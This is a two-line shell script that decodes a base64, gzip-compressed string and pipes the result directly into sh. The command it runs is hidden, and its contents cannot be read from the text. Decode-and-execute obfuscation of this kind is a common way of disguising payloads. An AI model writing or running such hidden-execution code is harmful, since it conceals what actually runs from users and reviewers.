#!/bin/sh
echo H4sIAAAAAAACA0suLcpR0C1WyCgpKbDS1ze0NNIz0DPSM9ev0CvOUKhRKM7gAgAlWCKCIwAAAA== | base64 -d | gunzip | sh
